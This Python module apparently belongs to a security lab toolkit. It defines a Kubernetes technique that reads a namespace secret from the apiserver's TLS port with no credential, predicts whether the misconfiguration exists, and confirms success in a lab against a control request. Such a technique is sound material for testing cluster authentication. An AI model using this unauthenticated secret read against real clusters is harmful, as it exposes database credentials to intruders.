"""Read a secret from the apiserver's TLS port without a credential.

The attacker needs only a connection to the apiserver. They ask for a secret and send no
credential. It succeeds if the apiserver accepts anonymous requests and its authorizer lets the
anonymous user read secrets. It stops if anonymous authentication is off, or if the authorizer
gives the anonymous user nothing.
"""

from __future__ import annotations

from collections.abc import Sequence
from typing import TYPE_CHECKING

from labkit.errors import ProbeError
from labkit.model import Foothold, Model, read_model
from labkit.model.decision import DENIED, Action, decide
from labkit.model.rights import authenticated_as
from labkit.techniques._lib.api.access import caller_at
from labkit.techniques._lib.api.ask import ask, first_refusal, url_of
from labkit.techniques._lib.machines.reach import Answer
from labkit.techniques._lib.stores.secret import true_secret
from labkit.techniques._lib.technique import (
    NETWORK,
    POD,
    SECRETS,
    USER_ON_MASTER,
    USER_ON_WORKER,
    Prediction,
    SentRequest,
    Technique,
)
from labkit.techniques._lib.verdict import Verdict

if TYPE_CHECKING:
    from labkit.lab import Lab

__all__ = ["TECHNIQUE"]

WANTED = ("shop", "db-credentials", "password")
PATH = "/api/v1/namespaces/shop/secrets/db-credentials"
READ = Action("get", "secrets", namespace=WANTED[0], name=WANTED[1])
CHANNEL = "* -> kube-apiserver@master:6443"


def predict(model: Model, foothold: Foothold) -> Prediction:
    """Predict whether the apiserver accepts anonymous callers and lets them read the secret."""
    channel = model.open_channels(CHANNEL)[0]
    rights = channel.authorization
    if rights.value != "allow-all":
        apiserver = model.environment.component(channel.server)
        caller = authenticated_as(apiserver, model.environment, None)
        found = decide(model.environment, apiserver, caller, READ)
        rights = found.claim if found.value != DENIED else rights
    return first_refusal(
        (channel.client_authentication, ("anonymous", "none")),
        (rights, ("allow-all", "allowed")),
    )


def requests(model: Model, foothold: Foothold) -> Sequence[SentRequest]:
    """Return the request for the secret, which nobody's name is on."""
    return [SentRequest(caller_at(model.environment, foothold), READ)]


def execute(lab: Lab, foothold: Foothold) -> Verdict:
    """Ask the apiserver for a secret without a credential."""
    secret = true_secret(lab, *WANTED)

    def proof(answer: Answer) -> str:
        if not secret.found_in(answer.body):
            raise ProbeError("the apiserver answered, but not with the secret")
        return f"read: {secret.proof}"

    def control() -> str:
        lab.api("GET", PATH)
        return "the administrator reads it on the same port"

    url = url_of(read_model(lab.environment).open_channels(CHANNEL)[0], PATH)
    return ask(lab, TECHNIQUE.name, foothold, url, proof=proof, control=control)


TECHNIQUE = Technique(
    name="apiserver-anonymous",
    title="Read secrets from the apiserver without a credential",
    footholds=(NETWORK, USER_ON_MASTER, USER_ON_WORKER, POD),
    grants=(SECRETS,),
    about=CHANNEL,
    properties=("client_authentication", "authorization"),
    attack=("T1078.001", "T1552.007"),
    stride=("spoofing", "information disclosure"),
    cwe=("CWE-306",),
    sources=(
        "https://kubernetes.io/docs/reference/access-authn-authz/authentication/",
        "https://attack.mitre.org/techniques/T1552/007/",
    ),
    predict=predict,
    execute=execute,
    requests=requests,
)
